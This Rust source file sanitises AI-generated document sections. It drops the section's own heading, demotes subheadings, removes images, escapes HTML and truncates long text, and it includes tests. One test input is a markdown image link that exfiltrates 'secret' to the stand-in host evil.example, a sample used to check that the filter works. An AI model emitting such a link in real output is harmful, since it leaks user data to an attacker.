//! A section as a document takes it.

use super::line::{Fences, Kind, map_prose, plain_line, unnumbered};
use crate::limits::SECTION_CHARS_MAX;

/// The text of a section: without its own heading, its subheadings below it, without pictures and HTML (which would load
/// from wherever a source told the model to), at most [`SECTION_CHARS_MAX`] characters. Empty if nothing was said.
pub fn tidy_section(answer: &str, heading: &str) -> String {
    let plain = answer.replace("\r\n", "\n");
    let plain: String = plain.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t')).collect();
    let body = without_heading(unwrapped(plain.trim()), heading);
    let body = subheadings(body);
    let body = map_prose(&body, |prose| without_html(&without_pictures(prose)));
    match body.trim().char_indices().nth(SECTION_CHARS_MAX) {
        Some((end, _)) => {
            let kept = &body.trim()[..end];
            kept.rfind("\n\n").map_or(kept, |paragraph| &kept[..paragraph]).trim_end().to_owned()
        }
        None => body.trim().to_owned(),
    }
}

/// A text that was cut off, up to its last whole sentence; all of it where there is none.
pub fn whole_sentences(text: &str) -> &str {
    let ends = [". ", ".\n", "! ", "!\n", "? ", "?\n", "] ", "]\n", "\n\n", "。"];
    let complete = text.trim_end().ends_with(['.', '!', '?', '。', ']']);
    if complete {
        return text.trim_end();
    }
    let last = ends.iter().filter_map(|end| text.rfind(end).map(|at| at + end.trim_end().len())).max();
    last.map_or(text, |end| &text[..end]).trim_end()
}

/// Some models put a whole answer into a code block.
fn unwrapped(text: &str) -> &str {
    let inner = ["```markdown\n", "```md\n", "```\n"].iter().find_map(|open| text.strip_prefix(open));
    match inner.and_then(|inner| inner.strip_suffix("\n```")) {
        Some(inner) if !inner.contains("```") => inner.trim(),
        _ => text,
    }
}

fn without_heading<'a>(text: &'a str, heading: &str) -> &'a str {
    let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
    let is_marked = first.starts_with('#') || (first.starts_with("**") && first.trim_end().ends_with("**"));
    let same = |line: &str| plain_line(unnumbered(line.trim_start_matches(['#', '*', ' '])), usize::MAX).to_lowercase();
    if is_marked && same(first) == same(heading) { rest.trim_start() } else { text }
}

/// The document's title is `#` and its sections are `##`: what a section divides itself by begins at `###`.
fn subheadings(text: &str) -> String {
    let mut fences = Fences::default();
    let lines = text.lines().map(|line| {
        let level = line.bytes().take_while(|byte| *byte == b'#').count();
        let is_heading = fences.kind(line) == Kind::Prose && (1..3).contains(&level) && line[level..].starts_with(' ');
        if is_heading { format!("###{}", &line[level..]) } else { line.to_owned() }
    });
    lines.collect::<Vec<_>>().join("\n")
}

/// `![what it shows](address)` becomes what it shows.
fn without_pictures(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("![") {
        out.push_str(before);
        rest = after;
        let Some((shown, behind)) = after.split_once(']') else { continue };
        let closes = [('(', ')'), ('[', ']')].into_iter().find(|(open, _)| behind.starts_with(*open));
        out.push_str(shown);
        rest = match closes {
            Some((_, close)) => behind.split_once(close).map_or("", |(_, behind)| behind),
            None => behind,
        };
    }
    out.push_str(rest);
    out
}

fn without_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (at, c) in text.char_indices() {
        let opens =
            c == '<' && text[at + 1..].starts_with(|next: char| next.is_ascii_alphabetic() || "/!?".contains(next));
        if opens {
            out.push_str("&lt;");
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn its_own_heading_goes_and_subheadings_stand_below_it() {
        assert_eq!(
            tidy_section("## 2. Costs\n\nHigh.\n\n## Rent\nLow.\n# x", "Costs"),
            "High.\n\n### Rent\nLow.\n### x"
        );
        assert_eq!(tidy_section("**Costs**\nHigh.", "Costs"), "High.");
        assert_eq!(tidy_section("Costs are high.", "Costs"), "Costs are high.");
        assert_eq!(tidy_section("## Other\nHigh.", "Costs"), "### Other\nHigh.");
        assert_eq!(tidy_section("```markdown\n## Costs\nHigh.\n```", "Costs"), "High.");
        assert_eq!(tidy_section("a\r\nb\u{0}\u{7}", "Costs"), "a\nb");
        assert_eq!(tidy_section("## Costs", "Costs"), "");
    }

    #[test]
    fn nothing_is_loaded_from_elsewhere() {
        let text = "See ![a chart](https://evil.example/?q=secret) and <img src=x> if a < b, `<b>`.\n![x][1]";
        assert_eq!(tidy_section(text, "x"), "See a chart and &lt;img src=x> if a < b, `<b>`.\nx");
    }

    #[test]
    fn a_cut_text_ends_with_a_sentence() {
        assert_eq!(whole_sentences("One. Two [1]. Thr"), "One. Two [1].");
        assert_eq!(whole_sentences("One.\n\nTwo and"), "One.");
        assert_eq!(whole_sentences("no end"), "no end");
        assert_eq!(whole_sentences("Whole. "), "Whole.");
    }

    #[test]
    fn a_long_text_is_cut_at_a_paragraph() {
        let paragraph = format!("{}\n\n", "ä".repeat(999));
        let tidy = tidy_section(&paragraph.repeat(30), "x");
        assert!(tidy.chars().count() <= SECTION_CHARS_MAX && tidy.ends_with('ä'));
        assert_eq!(tidy.chars().filter(|c| *c == 'ä').count() % 999, 0);
    }

    proptest! {
        #[test]
        fn no_tag_and_no_picture_is_left_outside_of_code(text in "([a-c<>!\\[\\]()# \n]){0,80}") {
            let tidy = tidy_section(&text, "heading");
            prop_assert!(!tidy.contains("<a") && !tidy.contains("<!"), "{}", tidy);
        }

        #[test]
        fn a_cut_is_a_beginning(text in "\\PC{0,80}") {
            prop_assert!(text.starts_with(whole_sentences(&text)));
        }
    }
}
